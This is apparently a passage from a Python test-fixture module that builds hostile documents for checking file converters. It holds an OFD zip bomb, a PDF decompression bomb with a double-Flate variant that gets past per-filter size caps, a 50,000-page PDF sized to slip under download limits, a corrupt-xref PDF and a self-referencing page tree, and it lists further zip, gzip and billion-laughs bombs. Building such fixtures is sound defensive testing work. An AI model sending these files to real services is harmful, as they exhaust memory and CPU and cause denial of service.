        _XML + f'<ofd:Res xmlns:ofd="{ns}" BaseLoc="Res"><ofd:Fonts>'
        '<ofd:Font ID="4" FontName="宋体" FamilyName="宋体"/></ofd:Fonts></ofd:Res>'
    )
    head = (
        _XML + f'<ofd:Page xmlns:ofd="{ns}"><ofd:Content><ofd:Layer ID="2">'
        f'<ofd:TextObject ID="3" Boundary="20 20 170 10" Font="4" Size="5">'
        f'<ofd:TextCode X="0" Y="5">{escape(title)}</ofd:TextCode></ofd:TextObject>'
    ).encode()
    content = _Repeated.fill(decoded_size, head, unit, b"</ofd:Layer></ofd:Content></ofd:Page>")
    return _zip(
        [
            ("OFD.xml", ofd),
            ("Doc_0/Document.xml", document),
            ("Doc_0/PublicRes.xml", res),
            ("Doc_0/Pages/Page_0/Content.xml", content),
        ]
    )


# ---------------------------------------------------------------------------------------------
# PDF
# ---------------------------------------------------------------------------------------------


def _pdf_text(s: str) -> bytes:
    """A PDF text string: UTF-16BE with BOM, as a hex string (safe for any characters)."""
    return b"<" + ("\ufeff" + s).encode("utf-16-be").hex().upper().encode() + b">"


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _pdf(objects: list[bytes], *, root: int = 1, info: int | None = None) -> bytes:
    """A PDF 1.7 file of `objects` (object i+1 is objects[i]) with a classic xref table whose
    offsets are exact, a trailer and %%EOF."""
    out = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    pos = len(out[0])
    offsets = []
    for num, body in enumerate(objects, 1):
        piece = b"%d 0 obj\n%s\nendobj\n" % (num, body)
        offsets.append(pos)
        out.append(piece)
        pos += len(piece)
    xref = [b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)]
    xref += [b"%010d 00000 n \n" % o for o in offsets]
    trailer = b"trailer\n<< /Size %d /Root %d 0 R" % (len(objects) + 1, root)
    if info:
        trailer += b" /Info %d 0 R" % info
    out += xref
    out.append(trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % pos)
    return b"".join(out)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _info(title: str) -> bytes:
    return b"<< /Title %s /Producer (WPS Office) /CreationDate (D:20240125093000+08'00') >>" % _pdf_text(
        title
    )


def pdf_bomb(
    decoded_size: int = 2 * GiB, title: str = DEFAULT_TITLE, *, unit: bytes = b" ", layers: int = 1
) -> bytes:
    """A valid one-page PDF (exact xref, trailer, %%EOF; about decoded_size / 1000: 2 MB by
    default) whose page content stream is FlateDecode and inflates to exactly `decoded_size` bytes.

    The stream opens with a real text operation (the report title in the document info, ASCII
    text on the page), then `unit` repeated (whitespace by default; `unit=b"0 0 m\\n"` gives
    path operators, which also make a renderer build a path of hundreds of millions of points).
    `layers=2` chains `/Filter [/FlateDecode /FlateDecode]`: the file shrinks to a few KB, and a
    cap that is checked per filter or only on the first filter is passed by the outer layer.

    pdfminer/pdfplumber inflate a content stream whole when the page is read: with no cap the
    reader allocates `decoded_size` (and, with path ops, far more for the parsed operators).
    """
    if layers not in (1, 2):
        raise ValueError("layers must be 1 or 2")
    content = _Repeated.fill(
        decoded_size, b"BT /F1 24 Tf 72 720 Td (2023 annual report) Tj ET\n", unit, b"\n"
    )
    stream = content.compressed("zlib")
    filters = b"/FlateDecode"
    if layers == 2:
        stream = stream.compressed("zlib")
        filters = b"[/FlateDecode /FlateDecode]"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
        b" /Contents 4 0 R >>",
        _stream(b"/Filter " + filters, stream.join()),
        _FONT,
        _info(title),
    ]
    return _pdf(objects, info=6)


def _page_tree(
    n: int, first_page: int, first_node: int, fanout: int | None
) -> tuple[int, dict[int, list[int]]]:
    """A page tree over page objects first_page..first_page+n-1: (root, kids of every node)."""
    pages = list(range(first_page, first_page + n))
    kids: dict[int, list[int]] = {}
    level, num = pages, first_node
    while True:
        if fanout is None or len(level) <= fanout:
            kids[num] = level
            return num, kids
        parents = []
        for i in range(0, len(level), fanout):
            kids[num] = level[i : i + fanout]
            parents.append(num)
            num += 1
        level = parents


def pdf_many_pages(
    n: int = 50_000, title: str = DEFAULT_TITLE, *, fanout: int | None = 100, compact: bool = False
) -> bytes:
    """A valid PDF with `n` pages (50,000 by default) that all share ONE content stream: a line of
    ASCII text, "page", in /Helvetica. The page tree is balanced (`fanout` kids per node; None for
    one flat /Kids array); /Resources and /MediaBox are inherited from the root.

    Classic xref (`compact=False`): about 4.8 MB for 50,000 pages (one ~95-byte object, xref
    entry and /Kids reference per page). `compact=True` puts the page-tree objects in compressed
    object streams with a PNG-predicted xref stream (PDF 1.5): about 400 KB, so it fits under a
    1 MiB download limit (pdfminer then spends ~1.5 s undoing the predictor in pure Python just
    to open it). Builds take 0.1 s (classic) and 0.5 s (compact).

    Tiny per page, huge in total: a converter that renders or extracts every page spends minutes
    and memory per page (50,000 x pdfplumber's page objects), and a page-count cap is the only
    thing that stops it. Every page has text, so "image-only" is the wrong verdict.
    """
    content = _stream(b"", b"BT /F1 24 Tf 72 720 Td (page) Tj ET")
    first_page, first_node = 5, 5 + n
    root, kids = _page_tree(n, first_page, first_node, fanout)
    parent: dict[int, int] = {}
    count: dict[int, int] = {}
    for node in sorted(kids):  # children are numbered before their parents
        for kid in kids[node]:
            parent[kid] = node
        count[node] = sum(count.get(kid, 1) for kid in kids[node])
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages %d 0 R >>" % root,
        _FONT,
        content,
        _info(title),
    ]
    objects += [
        b"<</Type/Page/Parent %d 0 R/Contents 3 0 R>>" % parent[p] for p in range(first_page, first_node)
    ]
    for node in sorted(kids):
        refs = b" ".join(b"%d 0 R" % k for k in kids[node])
        extra = (
            b"/Parent %d 0 R" % parent[node]
            if node != root
            else (b"/Resources << /Font << /F1 2 0 R >> >> /MediaBox [0 0 595 842]")
        )
        objects.append(b"<< /Type /Pages /Kids [%s] /Count %d %s >>" % (refs, count[node], extra))
    if not compact:
        return _pdf(objects, info=4)
    return _pdf_compact(objects, first_page, info=4)


def _png_up(rows: bytes, width: int) -> bytes:
    """PNG "Up" prediction (/Predictor 12): each row as its difference from the row above."""
    out, prev = bytearray(), bytes(width)
    for i in range(0, len(rows), width):
        row = rows[i : i + width]
        out.append(2)
        out += bytes((a - b) & 0xFF for a, b in zip(row, prev, strict=True))
        prev = row
    return bytes(out)


def _pdf_compact(objects: list[bytes], first: int, *, info: int) -> bytes:
    """Objects from `first` on in object streams of 1,000, the others plain, and an xref stream
    with PNG-Up prediction (PDF 1.5): what Acrobat and WPS write when "optimising" a file."""
    stop = len(objects) + 1
    out = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    pos = len(out[0])
    entries: dict[int, tuple[int, int, int]] = {0: (0, 0, 0xFFFF)}
    total = len(objects)

    def emit(num: int, body: bytes) -> None:
        nonlocal pos
        piece = b"%d 0 obj\n%s\nendobj\n" % (num, body)
        entries[num] = (1, pos, 0)
        out.append(piece)
        pos += len(piece)

    for num in range(1, total + 1):
        if not first <= num < stop:
            emit(num, objects[num - 1])
    for start in range(first, stop, 1000):
        group = range(start, min(start + 1000, stop))
        stm = total + 1 + (start - first) // 1000
        header, bodies, offset = [], [], 0
        for i, num in enumerate(group):
            header.append(b"%d %d" % (num, offset))
            bodies.append(objects[num - 1])
            offset += len(objects[num - 1]) + 1
            entries[num] = (2, stm, i)
        head = b" ".join(header) + b"\n"
        data = zlib.compress(head + b"\n".join(bodies) + b"\n", 9)
        emit(
            stm,
            _stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(group), len(head)), data),
        )
    xref_num = max(entries) + 1
    entries[xref_num] = (1, pos, 0)
    rows = b"".join(struct.pack(">BIH", *entries.get(i, (0, 0, 0))) for i in range(xref_num + 1))
    xref = _stream(
        b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Info %d 0 R /Filter /FlateDecode"
        b" /DecodeParms << /Predictor 12 /Columns 7 >>" % (xref_num + 1, info),
        zlib.compress(_png_up(rows, 7), 9),
    )
    out.append(b"%d 0 obj\n%s\nendobj\n" % (xref_num, xref))
    out.append(b"startxref\n%d\n%%%%EOF\n" % pos)
    return b"".join(out)


def pdf_garbage_xref(title: str = DEFAULT_TITLE, *, seed: int = 0) -> bytes:
    """A one-page PDF with readable text whose xref table is garbage: the `xref` keyword is
    followed by random bytes instead of entries, and `startxref` points past the end of the file.

    Strict readers fail ("xref not found", "invalid startxref"); lenient ones (pdfminer's fallback,
    pdfium) rebuild the table by scanning for `N 0 obj` and read the page. Either a clear
    "corrupt PDF" or the page's text is a correct outcome; a hang or a crash is not.
    """
    good = pdf_many_pages(1, title, fanout=None)
    cut = good.rindex(b"xref\n0 ")
    junk = random.Random(seed).randbytes(400)
    return (
        good[:cut]
        + b"xref\n"
        + junk
        + b"\ntrailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(good) * 10)
    )


def pdf_cyclic_pages(title: str = DEFAULT_TITLE) -> bytes:
    """A PDF whose page tree is a cycle: the root /Pages node lists one real page and itself in
    /Kids (and /Count lies: 1). A reader that walks /Kids recursively without remembering the
    nodes it has visited recurses forever (RecursionError, or an endless loop in an iterative
    walker); pdfminer skips the repeated node and finds the one page."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
        b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        _stream(b"", b"BT /F1 24 Tf 72 720 Td (page) Tj ET"),
        _FONT,
        _info(title),
    ]
    return _pdf(objects, info=6)


__all__ = [
    "DEFAULT_TITLE",
    "GiB",
    "KiB",
    "MiB",
    "adler32_combine",
    "crc32_combine",
    "deep_html",
    "docx_billion_laughs",
    "docx_declared_huge",
    "docx_lying_sizes",
    "docx_zip_bomb",
    "garbage_body",
    "gzip_bomb",
    "gzip_nested_bomb",
    "ofd_zip_bomb",
    "padded_report_page",
    "pdf_bomb",
    "pdf_cyclic_pages",
    "pdf_garbage_xref",
    "pdf_many_pages",
    "report_body",
    "report_page",
    "unclosed_tag_page",
    "undecodable_page",
    "utf16_page",
    "xlsx_zip_bomb",
]
